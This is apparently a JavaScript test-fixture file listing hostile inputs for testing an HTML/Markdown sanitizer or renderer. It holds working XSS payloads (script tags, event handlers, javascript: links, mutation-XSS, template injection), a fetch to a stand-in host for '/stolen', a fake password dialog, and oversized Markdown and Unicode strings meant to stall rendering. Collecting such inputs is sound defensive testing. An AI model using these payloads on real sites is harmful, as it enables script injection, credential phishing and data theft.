// Texts that try to become more than text. Each script in them sets `pwned` in its window and in the top window, and each
// address is one that nobody answers.

const ELSEWHERE = "http://192.0.2.1";
const SCRIPT = `self.pwned=top.pwned=1;alert(1);fetch('${ELSEWHERE}/stolen')`;

/** Names of attacks to their texts. */
export const MARKUP = {
  "script": `<script>${SCRIPT}</script>`,
  "script by address": `<script src="${ELSEWHERE}/x.js"></script>`,
  "image with a handler": `<img src=x onerror="${SCRIPT}">`,
  "image of another host": `<img src="${ELSEWHERE}/a.png" srcset="${ELSEWHERE}/b.png 2x">`,
  "svg with a handler": `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  "frame with a document": `<iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"></iframe>`,
  "link that is a script": `<a href="javascript:${SCRIPT}" ping="${ELSEWHERE}/ping">click</a> javascript:${SCRIPT}`,
  "style element": "<style>*{display:none!important;position:fixed}@import url(http://192.0.2.1/x.css)</style>",
  "style sheet": `<link rel="stylesheet" href="${ELSEWHERE}/x.css"><link rel="dns-prefetch" href="//192.0.2.1">`,
  "refresh": `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/go">`,
  "base address": `<base href="${ELSEWHERE}/">`,
  "form": `<form action="${ELSEWHERE}/form"><input autofocus onfocus="${SCRIPT}"><button>Send</button></form>`,
  "plugin": `<object data="data:text/html,<script>${SCRIPT}</script>"></object><embed src="${ELSEWHERE}/x.swf">`,
  "markup that changes when it is parsed twice": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  "end of an element": `</title></textarea></style></script></noscript></template><script>${SCRIPT}</script>`,
  "comment and CDATA": `--><script>${SCRIPT}</script><!-- ]]><script>${SCRIPT}</script><![CDATA[`,
  "end of an attribute": `" onmouseover="${SCRIPT}" onfocus="${SCRIPT}" autofocus tabindex="0" x='`,
  "style attribute": `" style="position:fixed;inset:0;z-index:9999;background:red" class="site-header" x="`,
  "names of the page's own objects": `<form id="evalcheckBoot" name="documentElement"><input name="startWorker" id="app"></form>`,
  "the page's own elements": `<eval-check example="x"></eval-check><dialog open popover id="p">Enter your password</dialog>`,
  "Markdown": `![](${ELSEWHERE}/md.png) [a](javascript:${SCRIPT}) <${ELSEWHERE}>`,
  "Markdown of a page": `# </h3><script>${SCRIPT}</script>\n\n[![a](${ELSEWHERE}/a.png)](javascript:${SCRIPT} "onclick=${SCRIPT}")\n\n| <b onclick=${SCRIPT}> | ![b][c] |\n|-|-|\n| <img src=x onerror=${SCRIPT}> | &lt;script&gt;${SCRIPT}&lt;/script&gt; |\n\n[c]: ${ELSEWHERE}/c.png\n\n\`\`\`html" onload="${SCRIPT}\n<script>${SCRIPT}</script>\n\`\`\`\n\n<script>${SCRIPT}</script>`,
  "Markdown of 10,000 quotations": "> ".repeat(10_000) + "x",
  "Markdown of 65,000 brackets": "[".repeat(65_000) + "](x)",
  "Markdown of a million cells": `${"|a".repeat(1_000)}|\n${"|-".repeat(1_000)}|\n${"|\n".repeat(1_000)}`,
  "Markdown of 20,000 elements": "**a** `b` [c](d) ".repeat(20) + "\n- **a** `b` [c](d)".repeat(5_000),
  "templates": "{{constructor.constructor('self.pwned=1')()}} ${self.pwned=1} #{7*7} <%= 7*7 %> {html!}",
  "import map": `<script type="importmap">{"imports":{"./page.js":"${ELSEWHERE}/x.js"}}</script>`,
  "UTF-7": "+ADw-script+AD4-self.pwned=1+ADw-/script+AD4-",
  "names of prototypes": "__proto__",
  "terminal escapes": "\u001b]0;title\u0007\u001b[2J\u001b[31mred\u0000\u0008\u007f",
};

const letters = (from, count) => Array.from({ length: count }, (_, n) => String.fromCodePoint(from + n)).join("");

/** Texts that want to be drawn elsewhere, or to take long to draw. */
export const GLYPHS = {
  "order reversed": "a\u202eexe.lnosj\u202c\u202d\u2066\u2067\u2068 b",
  "10,000 embeddings without an end": "\u202b\u2067".repeat(5_000) + "end",
  "words from right to left": "שלום עולם מרחבا لعالم 123 (a) ".repeat(50),
  "2,000 marks on a letter": "Z" + letters(0x300, 0x6f).repeat(18) + "algo",
  "60,000 invisible letters": "x" + "\u200b\u{e0041}\u2060".repeat(20_000) + "y",
  "half letters": "\ud800\udc00".repeat(3) + "\\ud800\\udfff",
  "a word of a million letters": "w".repeat(1_000_000),
  "one picture of 5,000 signs": "👩‍❤️‍💋‍👨\u200d".repeat(700),
  "wide signs": "\ufdfd𒐫⸻".repeat(3_000),
  "ends of lines": "a\u2028b\u2029c\u0085d\r\re\u000bf\u000cg".repeat(200),
};
